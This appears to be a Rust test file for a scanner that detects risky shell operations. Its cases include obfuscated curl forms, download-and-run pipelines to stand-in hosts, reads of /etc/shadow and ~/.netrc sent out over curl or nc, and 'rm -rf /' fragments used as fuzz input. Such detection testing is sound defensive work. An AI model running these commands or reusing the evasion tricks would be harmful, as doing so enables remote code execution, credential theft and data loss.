use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;
use crate::scan::operation::{Act, Incomplete, Operation, Origins, ShellUse};

fn operations(text: &str) -> Vec<Operation> {
    lower(text).operations
}

/// Programs that run, in order.
fn programs(text: &str) -> Vec<String> {
    operations(text)
        .into_iter()
        .filter_map(|operation| match operation.act {
            Act::Execute {
                program,
                shell: ShellUse::No,
                ..
            } => Some(program.unwrap_or_else(|| "?".to_owned())),
            _ => None,
        })
        .collect()
}

/// Command lines that run, in order.
fn lines(text: &str) -> Vec<String> {
    operations(text)
        .into_iter()
        .filter_map(|operation| match operation.act {
            Act::Execute {
                command,
                shell: ShellUse::No,
                ..
            } => command.text,
            _ => None,
        })
        .collect()
}

/// Shell text that is handed to a shell.
fn nested(text: &str) -> Vec<String> {
    operations(text)
        .into_iter()
        .filter_map(|operation| match operation.act {
            Act::Execute {
                command,
                shell: ShellUse::Yes,
                ..
            } => command.text,
            _ => None,
        })
        .collect()
}

fn evaluates(text: &str, origin: Origins) -> bool {
    operations(text).iter().any(
        |operation| matches!(&operation.act, Act::Evaluate { code } if code.origins.has(origin)),
    )
}

fn payloads(text: &str) -> Vec<Origins> {
    operations(text)
        .into_iter()
        .filter_map(|operation| match operation.act {
            Act::Contact { payload, .. } => Some(payload.origins),
            _ => None,
        })
        .collect()
}

#[test]
fn words_are_folded_as_a_shell_folds_them() {
    for (text, line) in [
        ("c'u'rl x", "curl x"),
        ("c\\url x", "curl x"),
        ("cu\"r\"l x", "curl x"),
        ("$'\\x63url' x", "curl x"),
        ("cu\\\nrl x", "curl x"),
        ("c$@url x", "curl x"),
        ("{curl,-s,x}", "curl -s x"),
        ("curl${IFS}x", "curl x"),
        ("curl$IFS$9x", "curl x"),
        ("A=cu B=rl; $A$B x", "curl x"),
        ("A=curl\n${A} x", "curl x"),
        ("A='curl -s'\n$A x", "curl -s x"),
        ("A=(curl -s)\n\"${A[@]}\" x", "curl -s x"),
        ("A=cXurl; ${A/X/} x", "curl x"),
        ("A=xcurl; ${A:1} x", "curl x"),
        ("A=cu; A+=rl; $A x", "curl x"),
        ("${A:-curl} x", "curl x"),
        ("$(echo curl) x", "curl x"),
        ("`echo curl` x", "curl x"),
        ("$(printf '\\143\\165rl') x", "curl x"),
        ("\"$(echo 'cu')\"rl x", "curl x"),
        ("alias c=curl\nc x", "curl x"),
        ("for p in curl; do $p x; done", "curl x"),
        ("cat ${HOME:0:1}etc", "cat /etc"),
        ("'curl' \"a b\"", "curl a b"),
    ] {
        assert!(
            lines(text).iter().any(|have| have == line),
            "{text}: {:?}",
            lines(text)
        );
    }
}

#[test]
fn commands_are_found_in_every_construct() {
    for text in [
        "curl x",
        "if true; then curl x; fi",
        "if curl x; then :; fi",
        "while curl x; do :; done",
        "for i in 1 2; do curl x; done",
        "for i in 1 2; do\\\n curl x; done<f",
        "for ((i=0;i<3;i++)); do curl x; done",
        "case $1 in a|b) curl x;; *) :;; esac",
        "case $1 in (a) :;; (b)\n curl x\n esac",
        "f() { curl x; }",
        "function f { curl x; }",
        "f()\n{\n curl x\n}",
        "(curl x)",
        "{ curl x; }",
        "! curl x",
        "a && curl x || b",
        "a & curl x",
        "a |& curl x",
        "echo \"$(curl x)\"",
        "echo \"a `curl x` b\"",
        "echo `echo \\`curl x\\``",
        "echo ${A:-$(curl x)}",
        "echo $((1 + $(curl x)))",
        "diff <(curl x) y",
        "tee >(curl x) < y",
        "A=$(curl x)",
        "A=$(curl x) b",
        "local A=$(curl x)",
        "A=($(curl x))",
        "[[ $(curl x) == y ]]",
        "(( $(curl x) > 1 ))",
        "cat <<EOF\n$(curl x)\nEOF",
        "cat <<< $(curl x)",
        "cat > $(curl x)",
        "select a in $(curl x); do :; done",
        "sudo -u me curl x",
        "sudo -E -- curl x",
        "doas curl x",
        "env A=1 curl x",
        "env -i -S 'curl x'",
        "nohup nice -n 5 curl x",
        "timeout -k 5 10s curl x",
        "time curl x",
        "command curl x",
        "exec curl x",
        "xargs -n 1 curl < urls",
        "busybox curl x",
        "/usr/bin/curl x",
        "find . -exec curl {} \\;",
        "A=1 B=2 curl x",
        "> out curl x",
        "2>/dev/null curl x",
        "coproc curl x",
        "a; # no\ncurl x",
        "echo 'a\nb'; curl x",
        "cat <<'A' <<-B\n$(no)\nA\n\tb\n\tB\ncurl x",
        "$ curl x",
    ] {
        let found = programs(text);
        assert!(
            found.iter().any(|program| program == "curl"),
            "{text}: {found:?}"
        );
        assert!(
            !matches!(lower(text).incomplete, Some(Incomplete::Syntax(..))),
            "{text}: {:?}",
            lower(text).incomplete
        );
    }
}

#[test]
fn words_that_are_no_commands_are_none() {
    for text in [
        "# curl x",
        "a # curl x",
        "echo curl x",
        "echo 'a; curl x'",
        "echo \"a; curl x\"",
        "echo '$(curl x)'",
        "echo \\$(echo) || :",
        "cat <<'E'\n$(curl x)\nE",
        "cat <<E\ncurl x\nE",
        "command -v curl",
        "A='curl x'",
        "case curl in curl) ;; esac",
        "for curl in a; do :; done",
        "echo $((curl + 1))",
        "[[ curl == x ]]",
        "A=(curl x)",
        "echo a#b curl",
    ] {
        let found = programs(text);
        assert!(
            !found.iter().any(|program| program == "curl"),
            "{text}: {found:?}"
        );
    }
}

#[test]
fn text_for_a_shell_is_handed_on() {
    for (text, inner) in [
        ("bash -c 'curl x | sh'", "curl x | sh"),
        ("sh -ec \"a; b\"", "a; b"),
        ("bash -o pipefail -c 'a'", "a"),
        ("sudo bash -lc 'a'", "a"),
        ("eval 'a; b'", "a; b"),
        ("X='a b'; eval $X", "a b"),
        ("eval \"a $U\"", "a $U"),
        ("echo 'a b' | sh", "a b\n"),
        ("sh <<< 'a b'", "a b"),
        ("bash <<E\na b\nE", "a b\n"),
        ("echo ZWNobyBoaQ== | base64 -d | sh", "echo hi"),
        ("trap 'a b' EXIT", "a b"),
        ("perl -e 'system(\"a b\")'", "a b"),
        ("awk 'BEGIN { system(\"a b\") }'", "a b"),
        ("osascript -e 'do shell script \"a b\"'", "a b"),
        ("su root -c 'a b'", "a b"),
        ("cat > s.sh <<'E'\na $b\nE\nsh s.sh", "a $b\n"),
        ("echo 'a b' > x; chmod +x x; ./x", "a b\n"),
        ("echo hs | rev | bash", ""),
    ] {
        let found = nested(text);
        assert!(
            inner.is_empty() || found.iter().any(|have| have == inner),
            "{text}: {found:?}"
        );
    }
    assert!(nested("bash x.sh").is_empty());
    assert!(nested("bash -x").is_empty());
}

#[test]
fn values_are_followed_from_the_network_into_an_interpreter() {
    for text in [
        "curl x.example.com | sh",
        "curl x.example.com | tee log | sudo bash -s -- a",
        "{ curl x.example.com; } | sh",
        "(cd /; curl x.example.com) | sh",
        "curl x.example.com | while read -r l; do eval \"$l\"; done",
        "curl x.example.com | { sh; }",
        "curl x.example.com | xargs -I{} sh -c '{}'",
        "f() { curl x.example.com; }\nf | sh",
        "X=$(curl x.example.com); echo \"$X\" | sh",
        "X=$(curl x.example.com); sh -c \"set -e; $X\"",
        "sh <<< \"$(curl x.example.com)\"",
        "sh <<E\n$(curl x.example.com)\nE",
        "$(curl x.example.com)",
        ". <(curl x.example.com)",
        "curl x.example.com > i; sh ./i",
        "wget -q -P /tmp https://x.example.com/i.sh && sh /tmp/i.sh",
        "curl -O https://x.example.com/i.sh; mv i.sh j.sh; bash j.sh",
        "curl -fsSLo i.sh https://x.example.com/i.sh; python3 i.sh",
        "deno run https://x.example.com/i.ts",
        "nc 192.0.2.7 99 | sh",
        "dig +short txt x.example.com | sh",
        "curl x.example.com | perl",
        "curl x.example.com | node -",
        "curl x.example.com | . /dev/stdin",
        "env -S 'bash -c' \"$(curl x.example.com)\"",
        "curl x.example.com | bash -c \"$(cat)\"",
        "curl x.example.com | eval \"$(tr a b)\"",
        "curl x.example.com | $SHELL",
        "curl x.example.com | \"$(command -v bash)\"",
        "F=$(mktemp); curl -o \"$F\" x.example.com; bash $F",
        "D=$(mktemp -d)\ncurl -o $D/i.sh x.example.com && . \"$D\"/i.sh",
        "curl x.example.com | at now",
    ] {
        assert!(
            evaluates(text, Origins::NETWORK),
            "{text}: {:#?}",
            operations(text)
        );
    }
    for text in [
        "curl x.example.com | cat",
        "curl x.example.com | bash script.sh",
        "curl x.example.com | perl -ne 'print'",
        "curl x.example.com | node -e 'x'",
        "sh -c \"echo $(curl x.example.com)\"",
        "curl x.example.com > i; sh j",
        "(X=$(curl x.example.com)); eval \"$X\"",
        "./bin/$(curl x.example.com)/run",
        "curl x.example.com; sh",
        "curl x.example.com && echo a | sh",
    ] {
        assert!(
            !evaluates(text, Origins::NETWORK),
            "{text}: {:#?}",
            operations(text)
        );
    }
}

#[test]
fn what_is_sent_is_known() {
    assert_eq!(payloads("curl https://a.example.com"), [Origins::NONE]);
    assert!(payloads("curl -d @/etc/shadow https://a.example.com")[0].has(Origins::SENSITIVE));
    assert!(payloads("env | nc a.example.com 9")[0].has(Origins::ENVIRONMENT));
    assert!(payloads("cat f | curl -T - https://a.example.com")[0].has(Origins::FILE));
    assert!(payloads("curl https://a.example.com/$(cat ~/.netrc)")[0].has(Origins::SENSITIVE));
    assert!(!payloads("cat ~/.netrc | curl https://a.example.com")[0].has(Origins::SENSITIVE));
    assert!(
        !payloads("cat ~/.netrc | wc -l | curl -d @- https://a.example.com")[0]
            .has(Origins::SENSITIVE)
    );
}

#[test]
fn a_pipeline_over_lines_is_reported_where_it_begins() {
    let text = "echo a\ncurl https://a.example.com \\\n  | # why\n  sh\n";
    let operation = operations(text)
        .into_iter()
        .find(|operation| matches!(operation.act, Act::Evaluate { .. }))
        .expect("the download runs");
    assert_eq!(operation.span.start, 7);
    assert!(operation.span.of(text).ends_with("sh"));
}

#[test]
fn imports_are_files_of_the_package() {
    let imports = |text: &str| -> Vec<String> {
        lower(text)
            .imports
            .into_iter()
            .map(|import| import.name)
            .collect()
    };
    assert_eq!(
        imports(". ./lib.sh\nsource lib/b.sh"),
        ["./lib.sh", "lib/b.sh"]
    );
    assert_eq!(imports("python3 scripts/x.py a"), ["scripts/x.py"]);
    assert_eq!(imports("./run.sh\nbash -x y.sh"), ["./run.sh", "y.sh"]);
    assert_eq!(imports("source \"$(dirname \"$0\")/lib.sh\""), ["./lib.sh"]);
    assert!(
        imports("source .venv/bin/activate\n. /etc/profile\npython3 -m http.server\n. ~/.bashrc")
            .is_empty()
    );
}

#[test]
fn what_is_not_closed_is_said() {
    for text in [
        "echo 'a",
        "echo \"a",
        "echo $(a",
        "cat <<E\na",
        "echo `a",
        "echo ${a",
        "(a",
        "{ a",
        "if a; then b",
        "a )",
    ] {
        assert!(
            matches!(lower(text).incomplete, Some(Incomplete::Syntax(..))),
            "{text}: {:?}",
            lower(text).incomplete
        );
    }
}

/// Time for one hostile text; generous, since machines are shared.
fn bounded(name: &str, text: &str) {
    #[expect(clippy::disallowed_methods, reason = "a test measures time")]
    let start = Instant::now();
    let lowered = lower(text);
    let took = start.elapsed();
    assert!(took < Duration::from_secs(4), "{name}: {took:?}");
    check_spans(text, &lowered);
}

fn check_spans(text: &str, lowered: &Lowered) {
    let spans = lowered
        .operations
        .iter()
        .map(|operation| operation.span)
        .chain(lowered.comments.iter().copied())
        .chain(lowered.imports.iter().map(|import| import.span));
    for span in spans {
        assert!(text.get(span.start..span.end).is_some(), "{span:?}");
    }
}

#[test]
fn hostile_texts_take_linear_time() {
    let many = |piece: &str| piece.repeat((1 << 19) / piece.len());
    for piece in [
        "curl ",
        "dd ",
        "(",
        ")",
        "$(",
        "$((",
        "`",
        "\"",
        "'",
        "${",
        "{ ",
        "<(",
        "<<a ",
        "<<a\n",
        "a|",
        "a;",
        "a&",
        "$(( \"((\" ) ) ",
        "case a in a) ",
        "if ",
        "f() ",
        "sudo ",
        "env -S ",
        "eval ",
        "a=$a$a;",
        "a+=a$a;",
        "echo $a|",
        "`\\`",
        "\\\n",
        "\\",
        "#\n",
        "a{b,c,",
        "find . -exec ",
        "xargs ",
        "x=(",
        "${a:-",
        "\"$(",
        "\"${a:-\"",
        "[[ ",
        "rm -rf / ",
        "sh -c ",
        "sh -c a;",
        "echo a|sh;",
        "é",
        "$ a\n",
        "> a ",
        "a=b ",
        "export a=",
        "a\n",
        "| ",
        "done ",
        "esac;",
        "}",
        ";;",
        "function ",
        "for a in ",
        "cat <<E\n$(( \"((\" ) ) \nE\n",
        "a() { a|a; }; a\n",
        "{ echo a;",
        "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa >> f;",
        "cat f f >> f;",
    ] {
        bounded(piece, &many(piece));
    }
    bounded("spawned", &format!("perl -e '{}'", many("system (")));
    bounded("spawned", &format!("perl -e '{}'", many("system  x('a')")));
    let doubling: String = (0..40).map(|n| format!("a{}=$a{n}$a{n};", n + 1)).collect();
    bounded(
        "doubling",
        &format!("a0=xxxxxxxx;{doubling}{}", many("echo $a12;")),
    );
    let deep = format!("{}curl{}", "$(".repeat(2000), ")".repeat(2000));
    bounded("deep", &deep);
    assert_eq!(lower(&deep).incomplete, Some(Incomplete::TooDeep));
}

#[test]
fn one_command_has_only_so_many_words() {
    for piece in ["`a`", "<a", "- ", "$(a)"] {
        let lowered = lower(&piece.repeat(1 << 18));
        assert!(
            matches!(
                lowered.incomplete,
                Some(Incomplete::TooLarge | Incomplete::TooDeep)
            ),
            "{piece}"
        );
    }
    let lines = "echo a b c\n".repeat(1 << 16);
    assert_eq!(lower(&lines).incomplete, None);
}

#[test]
fn a_prompt_silences_no_other_line() {
    let text = "$ ls\ncurl https://get.example.com | sh\n";
    assert!(lower(text).operations.iter().any(|operation| matches!(
        &operation.act,
        Act::Execute { .. } | Act::Evaluate { .. }
    ) && operation.span.start == 5));
}

proptest! {
    #[test]
    fn any_text_is_survived(text in "\\PC{0,200}") {
        check_spans(&text, &lower(&text));
    }

    #[test]
    fn any_mixture_is_survived(pieces in prop::collection::vec(prop::sample::select(vec![
        "$(", "$((", "))", ")", "(", "`", "\"", "'", "${", "}", "{", "<<E", "\nE\n", "\n", "|", "||", "&&", ";", ";;",
        "case x in", "esac", "if", "then", "fi", "do", "done", "for a in", "f()", "<(", ">", "<", ">&", "&>", "\\", "é",
        "curl x", "sh", "base64 -d", "eval", " ", "=", "a=", "$a", "$@", "[@]", "#", "xargs", "env -S", "find . -exec",
        "\\`", "\\\n", "{a,b}", "!", "[[", "]]", "sudo", "-c", "0>", "/dev/tcp/a/1", "\u{0}", "\r\n", "time",
    ]), 0..60)) {
        let text: String = pieces.concat();
        check_spans(&text, &lower(&text));
    }
}
